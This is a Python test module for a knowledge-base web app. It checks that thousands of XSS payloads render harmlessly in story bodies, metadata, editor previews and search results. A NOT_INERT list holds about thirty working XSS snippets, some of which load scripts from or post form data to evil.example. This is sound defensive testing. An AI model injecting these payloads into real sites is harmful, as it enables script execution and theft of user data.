"""Hostile stories render inert: every line of ../shared/security/xss-payloads.txt, placed in a
story's body (in several Markdown contexts), its title and its metadata.

The checker (tests/inert.py) parses each response and fails on any script that is not the
app's own, any event handler or style attribute, any javascript:/vbscript:/data: URL, and
any element that could load or run content. The hostile corpora are indexed with a hashing
stand-in for the model (:class:`tests.web_fixtures.HashingEmbedder`): ranking is not what
these tests are about, and thousands of passages would take minutes to embed for real.
"""

from __future__ import annotations

import pytest
import yaml

from tests.conftest import SECURITY
from tests.inert import assert_inert, inert_problems
from tests.web_fixtures import SECRET_KEY, HashingEmbedder, add_users, hostile_case, login, read_payloads

pytestmark = pytest.mark.slow

PAYLOADS_FILE = SECURITY / "xss-payloads.txt"
#: Payloads spread over the metadata of the indexed hostile cases.
METADATA_CASES = 20
PER_CASE = 10
#: Payloads per preview request.
PREVIEW_BATCH = 20
#: Markdown bodies each holding every payload, in different contexts (each file stays under 1 MB).
#: Payloads as section headings are tested through the preview (a story of 7,568 sections is
#: slow to index and adds nothing: headings are escaped text wherever they appear).
BODY_CONTEXTS = {
    "xss-paragraphs": lambda i, p: p,
    "xss-list-items": lambda i, p: f"- {p}",
    "xss-table-cells": lambda i, p: f"| {i} | {p} |",
    "xss-link-text": lambda i, p: f"[{p}](https://example.com/{i})",
    "xss-link-targets": lambda i, p: f"[link {i}]({p})",
    "xss-quotes-and-emphasis": lambda i, p: f"> **{p}**",
}


@pytest.fixture(scope="module")
def payloads() -> list[str]:
    if not PAYLOADS_FILE.exists():
        pytest.skip("../shared/security is absent")
    lines = read_payloads(PAYLOADS_FILE)
    assert len(lines) == 7568
    return lines


def _hostile_app(root, embedder, files: dict[str, str]):
    from kb.indexing import index_cases
    from kb.service import KnowledgeBase
    from kb.settings import Settings
    from webui import create_app

    cases = root / "cases"
    cases.mkdir()
    for slug, text in files.items():
        data = text.encode("utf-8")
        assert len(data) < 1_000_000, f"{slug} is {len(data):,} bytes"
        (cases / f"{slug}.md").write_bytes(data)
    settings = Settings(cases_dir=cases, data_dir=root / "data")
    fast = HashingEmbedder(embedder)
    result = index_cases(settings, embedder=fast)
    assert not result.skipped, result.skipped
    app = create_app({"KB_SETTINGS": settings, "SECRET_KEY": SECRET_KEY, "TESTING": True,
                      "KB_KNOWLEDGE_BASE": KnowledgeBase(settings, embedder=fast)})
    add_users(app)
    return app


@pytest.fixture(scope="module")
def body_app(tmp_path_factory, embedder, payloads):
    """Stories whose bodies hold every payload, once per Markdown context."""
    files = {}
    for slug, context in BODY_CONTEXTS.items():
        lines = [context(i, payload) for i, payload in enumerate(payloads)]
        table = "| n | payload |\n|---|---|\n" if "table" in slug else ""
        body = "## Situation\n\n" + table + ("\n" if table else "\n\n").join(lines)
        files[slug] = hostile_case(slug, payloads[:PER_CASE], body)
    return _hostile_app(tmp_path_factory.mktemp("xss-body"), embedder, files)


@pytest.fixture(scope="module")
def metadata_sample(payloads) -> list[str]:
    count = METADATA_CASES * PER_CASE
    return [payloads[i * len(payloads) // count] for i in range(count)]


@pytest.fixture(scope="module")
def metadata_app(tmp_path_factory, embedder, metadata_sample):
    """Twenty stories, every other one a draft, with sampled payloads in every metadata field."""
    files = {}
    for n in range(METADATA_CASES):
        chunk = metadata_sample[n * PER_CASE:(n + 1) * PER_CASE]
        body = f"## Situation\n\nHostile story number {n}.\n\n## Results\n\n- {chunk[0]}\n"
        files[f"meta-{n:02}"] = hostile_case(f"meta-{n:02}", chunk, body, published=f"2024-01-{n + 1:02}",
                                             status="draft" if n % 2 else "published")
    return _hostile_app(tmp_path_factory.mktemp("xss-meta"), embedder, files)


def _marketer(app):
    client = app.test_client()
    assert login(client, "mia").status_code == 302
    return client


# -- the checker itself --------------------------------------------------------------------

APP_PAGE = ('<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
            '<link rel="icon" href="/static/favicon.svg"><link rel="stylesheet" href="/static/app.css">'
            '<script src="/static/app.js" defer></script></head><body><form method="get" action="/browse">'
            '<a href="https://example.com/x?a=1&amp;b=2">ok</a><a href="#main">skip</a><p>&lt;script&gt;</p>'
            '</form></body></html>')
NOT_INERT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script src="/static/app.js">alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=x></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<details open ontoggle=alert(1)>',
]


def test_the_checker_passes_the_apps_own_markup():
    assert inert_problems(APP_PAGE) == []


@pytest.mark.parametrize("snippet", NOT_INERT)
def test_the_checker_catches_executable_markup(snippet):
    assert inert_problems(APP_PAGE.replace("</form>", snippet + "</form>")), snippet


# -- bodies ----------------------------------------------------------------------------------


@pytest.mark.parametrize("slug", list(BODY_CONTEXTS))
def test_every_payload_in_a_story_body_renders_inert(body_app, payloads, slug):
    response = body_app.test_client().get(f"/cases/{slug}")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert_inert(html, f"/cases/{slug}")
    assert len(html) > len(payloads) * 10, "the payloads were rendered"


def test_the_story_api_and_search_over_hostile_bodies_are_inert(body_app):
    client = _marketer(body_app)
    for slug in BODY_CONTEXTS:
        data = client.get(f"/api/cases/{slug}").get_json()
        assert_inert("".join(section["html"] for section in data["sections"]), f"/api/cases/{slug} sections")
    query = "alert xss script img src onerror javascript"
    html = client.get("/", query_string={"q": query, "k": 10}).get_data(as_text=True)
    assert html.count('<li class="card') == len(BODY_CONTEXTS)
    assert_inert(html, f"results for {query!r}")
    story = client.get("/cases/xss-list-items", query_string={"q": query, "section": "Situation"})
    assert "Matched passage" in story.get_data(as_text=True)
    assert_inert(story.get_data(as_text=True), "the matched passage")


# -- the editor preview: every payload in every field ----------------------------------------


def test_every_payload_in_the_preview_renders_inert(metadata_app, payloads):
    client = _marketer(metadata_app)
    token = client.get("/cases/new").get_data(as_text=True).split('name="csrf_token" value="')[1].split('"')[0]
    requests = 0
    for start in range(0, len(payloads), PREVIEW_BATCH):
        batch = payloads[start:start + PREVIEW_BATCH]
        joined = " ".join(batch)
        extra = {f"note_{i}": payload for i, payload in enumerate(batch)}
        extra[batch[0][:80] or "key"] = "a payload as a key"
        response = client.post("/preview", data={
            "csrf_token": token, "title": joined, "customer": joined, "industry": joined, "region": joined,
            "tags": ", ".join(batch), "products": ", ".join(batch), "roles": ", ".join(batch), "summary": joined,
            "extra": yaml.safe_dump(extra, allow_unicode=True),
            "body": "\n\n".join(f"## {payload}\n\n{payload}" for payload in batch),
        })
        assert response.status_code == 200
        assert_inert(response.get_data(as_text=True), f"preview of payloads {start}-{start + len(batch)}")
        requests += 1
    assert requests == -(-len(payloads) // PREVIEW_BATCH)


# -- titles and metadata of indexed stories ----------------------------------------------------


def test_hostile_metadata_is_inert_on_story_pages(metadata_app):
    anonymous, marketer = metadata_app.test_client(), _marketer(metadata_app)
    for n in range(METADATA_CASES):
        slug = f"meta-{n:02}"
        clients = [marketer] if n % 2 else [anonymous, marketer]
        for client in clients:
            response = client.get(f"/cases/{slug}")
            assert response.status_code == 200, slug
            assert_inert(response.get_data(as_text=True), f"/cases/{slug}")
        assert_inert(marketer.get(f"/cases/{slug}/edit").get_data(as_text=True), f"/cases/{slug}/edit")


def test_hostile_metadata_is_inert_in_results_browse_and_facets(metadata_app, metadata_sample):
    anonymous, marketer = metadata_app.test_client(), _marketer(metadata_app)
    for client in (anonymous, marketer):
        results = client.get("/", query_string={"q": "hostile story number", "k": 100}).get_data(as_text=True)
        expected = METADATA_CASES if client is marketer else METADATA_CASES // 2
        assert results.count('<li class="card') == expected
        assert_inert(results, "search results")
        for sort in ("date", "title"):
            page = client.get("/browse", query_string={"sort": sort}).get_data(as_text=True)
            assert page.count('<li class="compact-card">') == expected
            assert_inert(page, f"browse by {sort}")
    assert_inert(marketer.get("/browse", query_string={"status": "draft"}).get_data(as_text=True), "drafts")
    for n in range(0, METADATA_CASES, 2):
        chunk = metadata_sample[n * PER_CASE:(n + 1) * PER_CASE]
        for field, value in (("industry", chunk[2]), ("region", chunk[3]), ("tags", chunk[5])):
            response = anonymous.get("/browse", query_string={field: value})
            assert response.status_code == 200
            assert_inert(response.get_data(as_text=True), f"browse filtered by a hostile {field}")


def test_hostile_queries_are_inert(metadata_app, metadata_sample):
    client = metadata_app.test_client()
    for payload in metadata_sample:
        response = client.get("/", query_string={"q": payload, "k": 3})
        if response.status_code == 400:  # a payload of control characters only: an empty query
            continue
        assert response.status_code == 200
        assert_inert(response.get_data(as_text=True), f"results for {payload!r}")
